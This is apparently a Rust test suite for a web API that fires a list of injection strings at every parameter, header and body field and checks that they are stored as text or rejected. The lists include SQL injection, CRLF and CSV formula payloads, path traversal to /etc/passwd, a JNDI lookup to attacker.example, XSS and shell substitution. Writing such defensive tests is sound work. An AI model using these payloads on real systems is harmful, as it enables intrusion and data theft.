//! Injection: hostile texts in every parameter, header and body field are stored as text or rejected, never interpreted.

use ::contract::v2;
use poem::http::Method;

use super::{
    operations::{Target, Text, percent_encode, targets, with_field},
    snapshot::Snapshot,
};
use crate::{
    support::{Actor, Engine, LogCapture, LogFormat, TestApp, TestResponse, Value, json},
    v2::operations::ResourceIds,
};

/// SQL and full-text query syntax.
const SQL: [&str; 14] = [
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "\" OR \"\"=\"",
    "1; DELETE FROM items",
    "1 OR 1=1",
    "') UNION SELECT password_hash FROM users --",
    "admin'--",
    "\\'; SELECT pg_sleep(10); --",
    "$1",
    "?",
    ":name",
    "%' ESCAPE '_",
    "* MATCH \"x\" NEAR(a b)",
    "E'\\x27'",
];

/// Syntax of headers, log lines, spreadsheets, paths, markup and templates.
const NON_SQL: [&str; 44] = [
    // Headers and log lines.
    "a\r\nSet-Cookie: admin=1",
    "a\nHTTP/1.1 200 OK",
    "a%0d%0aX-Injected: 1",
    "\u{2028}\u{2029}line separators",
    "\n2027-01-15T08:00:00.000000Z  INFO request{id=1}: answered status=200",
    "\u{1b}[2J\u{1b}[31mred",
    "\u{8}\u{8}\u{8}\u{7f}",
    "\u{85}next line",
    // Cells of a spreadsheet.
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "＝1+1",
    "\"=1+1",
    "a\",\"=1+1",
    // Paths.
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f",
    "/etc/passwd\u{0}.png",
    "file:///etc/passwd",
    "https://attacker.example/",
    "//attacker.example",
    // Characters.
    "\u{0}",
    "a\u{0}b",
    "\u{202e}exe.txt\u{202c}",
    "\u{2066}bidi\u{2069}",
    "\u{200b}\u{200d}\u{feff}",
    "\u{fffd}\u{ffff}\u{10ffff}",
    "e\u{301}\u{301}\u{301}\u{301}",
    "ﷺ",
    "İıſK",
    "👩‍👩‍👧‍👦",
    // Templates, markup, expressions.
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${jndi:ldap://attacker.example/a}",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "%s%n%x",
    "$(reboot)",
    "`reboot`",
    "{\"$gt\": \"\"}",
];

fn corpus() -> Vec<String> {
    let mut all: Vec<String> = SQL.iter().chain(&NON_SQL).map(|text| (*text).to_owned()).collect();
    all.extend(["A".repeat(5_000), "é".repeat(2_000), "(".repeat(3_000), "\"".repeat(1_000), " ".repeat(1_000)]);
    all
}

/// Asserts that a response has no server error, no injected header and no internal detail.
fn expect_no_injection(target: &Target, part: &str, sent: &str, response: &TestResponse) {
    let context = || format!("{target}: {:.80} in {part}: {response:?}", response.path);
    // The test client has already checked the response against the document.
    assert!(response.status < 500, "{}", context());
    assert_ne!(response.status, 401, "{}", context());
    for (name, value) in &response.headers {
        assert!(!value.contains(['\r', '\n', '\0']), "{name}: {}", context());
        assert!(!["set-cookie", "x-injected"].contains(&name.as_str()), "{}", context());
    }
    // `Location` is always a path of the API.
    let location = response.headers.get("location").map_or("/v", String::as_str);
    assert!(location.starts_with("/v"), "{}", context());
    let text = String::from_utf8_lossy(&response.body);
    for detail in ["SELECT ", "sqlite", "postgres", "diesel", "panicked", "argon2id", ".rs:", "49}}"] {
        // A successful response may contain user data.
        assert!(response.is_success() || sent.contains(detail) || !text.contains(detail), "{detail}: {}", context());
    }
}

/// Asserts that each event is one line without control characters, and that each request has one access log line.
fn expect_lines(log: &str, requests: usize) {
    let mut access = 0;
    for line in log.lines() {
        let is_event = match line.strip_prefix('{') {
            Some(_) => serde_json::from_str::<Value>(line).is_ok_and(|event| event["timestamp"].is_string()),
            None => {
                let time = line.get(..27).unwrap_or_default();
                time.ends_with('Z') && time.as_bytes()[10] == b'T' && time.starts_with("20")
            }
        };
        assert!(is_event, "not the start of an event: {line:?}");
        assert!(!line.contains(char::is_control), "{line:?}");
        access += usize::from(line.contains("request completed"));
    }
    assert_eq!(access, requests, "one access log line per request");
}

/// The sender of the requests and the ids of their resources.
struct Sender<'a> {
    actor: Actor<'a>,
    ids: ResourceIds,
}

impl<'a> Sender<'a> {
    async fn new(app: &'a TestApp, target: &Target) -> Self {
        let actor = if target.is_for_admins() { app.admin().await } else { app.user().await };
        let ids = ResourceIds::create(&actor).await;
        // Administrators act on the account of another user.
        let ids = if target.is_for_admins() { ResourceIds { user: app.user().await.id(), ..ids } } else { ids };
        Self { actor, ids }
    }

    fn caller(&self, app: &'a TestApp, target: &Target) -> Actor<'a> {
        Actor::new(app, self.actor.session.clone().filter(|_| target.operation.is_secured))
    }
}

/// Returns the path of an operation with a text in place of one of its parameters.
fn path_with(target: &Target, ids: ResourceIds, name: &str, text: &str) -> String {
    let marker = "987654321";
    let template = target.operation.path.replace(&format!("{{{name}}}"), marker);
    let mut path = template;
    for (name, id) in [
        ("bucketlist_id", ids.list),
        ("item_id", ids.item),
        ("user_id", ids.user),
        ("session_id", ids.session),
        ("export_id", ids.export),
    ] {
        path = path.replace(&format!("{{{name}}}"), &id.to_string());
    }
    assert!(!path.contains('{'), "{path}");
    path.replace(marker, text)
}

fn log_format(engine: Engine) -> LogFormat {
    if engine == Engine::Sqlite { LogFormat::Text } else { LogFormat::Json }
}

both_engines! {
    async fn hostile_parameters_are_treated_as_text_or_rejected(engine: Engine) {
        let log = LogCapture::start(log_format(engine));
        let app = TestApp::new(engine);
        let victim = app.user().await;
        ResourceIds::create(&victim).await;
        let before = Snapshot::of_user(&app.database, victim.id());
        let (mut tried, corpus) = (0, corpus());
        for target in targets() {
            let sender = Sender::new(&app, &target).await;
            let actor = sender.caller(&app, &target);
            log.take();
            let mut requests = 0;
            let path = sender.ids.path(target.operation);
            for text in &corpus {
                let short: String = text.chars().take(1_500).collect();
                let encoded = percent_encode(&short);
                for name in target.names("path") {
                    let response = target.request(&actor, &path_with(&target, sender.ids, name, &encoded)).send().await.any_status();
                    expect_no_injection(&target, name, text, &response);
                    assert!(!response.is_success(), "{target}: {short} was accepted as an id");
                    requests += 1;
                }
                for name in target.names("query") {
                    let response = target.request(&actor, &format!("{path}?{name}={encoded}")).send().await.any_status();
                    expect_no_injection(&target, name, text, &response);
                    // The text is unknown as the name of a parameter.
                    let response = target.request(&actor, &format!("{path}?{encoded}=1")).send().await.any_status();
                    expect_no_injection(&target, "a parameter name", text, &response);
                    requests += 2;
                }
                // Values that are invalid in headers are sent over a socket (`tests/cli/malformed_requests.rs`).
                if target.method() == Method::GET || short.contains(char::is_control) || short.len() > 4_000 {
                    continue;
                }
                for name in target.names("header") {
                    let response = target.request(&actor, &path).header(name, &short).send().await.any_status();
                    expect_no_injection(&target, name, text, &response);
                    requests += 1;
                }
            }
            expect_lines(&log.take(), requests);
            tried += requests;
            assert_eq!(Snapshot::of_user(&app.database, victim.id()), before, "{target}");
        }
        assert!(tried > 5_000, "{tried}");
    }

    async fn hostile_header_values_of_reads_are_handled(engine: Engine) {
        let app = TestApp::new(engine);
        let log = LogCapture::start(log_format(engine));
        for target in targets().into_iter().filter(|target| target.method() == Method::GET) {
            let sender = Sender::new(&app, &target).await;
            let path = sender.ids.path(target.operation);
            log.take();
            let mut requests = 0;
            for text in corpus().iter().filter(|text| !text.contains(char::is_control) && text.len() < 4_000) {
                for name in target.names("header").into_iter().chain(["accept", "accept-encoding", "accept-version", "cookie"]) {
                    let response = target.request(&sender.actor, &path).header(name, text).send().await.any_status();
                    expect_no_injection(&target, name, text, &response);
                    requests += 1;
                }
            }
            expect_lines(&log.take(), requests);
        }
    }

    async fn hostile_body_values_are_stored_as_text_or_rejected(engine: Engine) {
        let log = LogCapture::start(log_format(engine));
        let app = TestApp::new(engine);
        let victim = app.user().await;
        ResourceIds::create(&victim).await;
        let before = Snapshot::of_user(&app.database, victim.id());
        let (mut tried, corpus) = (0, corpus());
        for target in targets().into_iter().filter(|target| target.body().is_some()) {
            let sender = Sender::new(&app, &target).await;
            let actor = sender.caller(&app, &target);
            log.take();
            let mut requests = 0;
            for text in &corpus {
                for Text { at, .. } in target.texts() {
                    let body = with_field(&target.example(), &at, json!(text));
                    let response = target.with(&actor, &sender.ids.path(target.operation), &body).send().await.any_status();
                    // The credentials in the examples do not exist here.
                    if !target.operation.is_secured && response.status == 401 {
                        requests += 1;
                        continue;
                    }
                    expect_no_injection(&target, &at, text, &response);
                    // Stored text is the sent text, trimmed and in NFC, or empty if it has no visible character.
                    if let Some(stored) = serde_json::from_slice::<Value>(&response.body).ok().filter(|_| response.is_success())
                        && let Some(stored) = stored.pointer(&at.replace("/items/", "/data/"))
                    {
                        use unicode_normalization::UnicodeNormalization;
                        let is_visible = |c: char| !c.is_whitespace() && !openapi_model::text::is_invisible(c);
                        let expected = if text.contains(is_visible) { text.trim() } else { "" };
                        assert_eq!(stored, &json!(expected.nfc().collect::<String>()), "{target}: {at}");
                    }
                    requests += 1;
                }
                // The text is unknown as the name of a field.
                for object in target.objects() {
                    let pointer = format!("{}/{}", object.at, "x");
                    let mut body = with_field(&target.example(), &pointer, json!(1)).to_string();
                    body = body.replacen("\"x\":1", &format!("{}:1", json!(text)), 1);
                    let request = actor.request(target.method(), &sender.ids.path(target.operation));
                    let request = request.header("content-type", &target.operation.request_media_types[0]);
                    request.bytes(body).send().await.expect(422);
                    requests += 1;
                }
            }
            expect_lines(&log.take(), requests);
            tried += requests;
            assert_eq!(Snapshot::of_user(&app.database, victim.id()), before, "{target}");
        }
        assert!(tried > 3_000, "{tried}");
    }

    async fn csv_cells_are_never_formulas(engine: Engine) {
        let app = TestApp::new(engine);
        let admin = app.admin().await;
        let list = admin.create_bucketlist("=1+1").await;
        for (number, text) in corpus().iter().enumerate() {
            // Either rejected or stored as text.
            admin.post("/v1/bucketlists", &json!({"name": text, "description": text})).await.any_status();
            let item = json!({"name": text, "description": text});
            admin.post(&format!("/v1/bucketlists/{list}/items"), &item).await.any_status();
            let account = json!({"email": format!("=cmd|{number}@example.com"), "password": Actor::PASSWORD, "name": text});
            app.anonymous().post("/v1/auth/register", &account).await.any_status();
            admin.post("/v2/bucketlists", &json!({"name": format!("{number}"), "description": text})).await.any_status();
        }
        let ids = ResourceIds { list, ..ResourceIds::create(&admin).await };
        let ids = ResourceIds { export: admin.create_export("csv").await, ..ids };
        let (mut tables, mut escaped_cells) = (0, 0);
        for operation in v2::contract().operations().filter(|it| it.response_media_types.iter().any(|kind| kind == "text/csv")) {
            let response = admin.request(Method::GET, &ids.path(operation)).header("accept", "text/csv").send().await.expect(200);
            let mut reader = csv::Reader::from_reader(&*response.body);
            let columns = reader.headers().unwrap().len();
            for record in reader.records() {
                let record = record.unwrap();
                assert_eq!(record.len(), columns, "{record:?}");
                for cell in &record {
                    let first = cell.trim_start_matches(|c: char| c == '"' || (c.is_whitespace() && !"\t\r\n".contains(c)));
                    assert!(!first.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']), "{cell:?}");
                    escaped_cells += usize::from(cell.starts_with('\''));
                }
            }
            tables += 1;
        }
        assert!(tables >= 4 && escaped_cells > 20, "{tables} {escaped_cells}");
    }
}
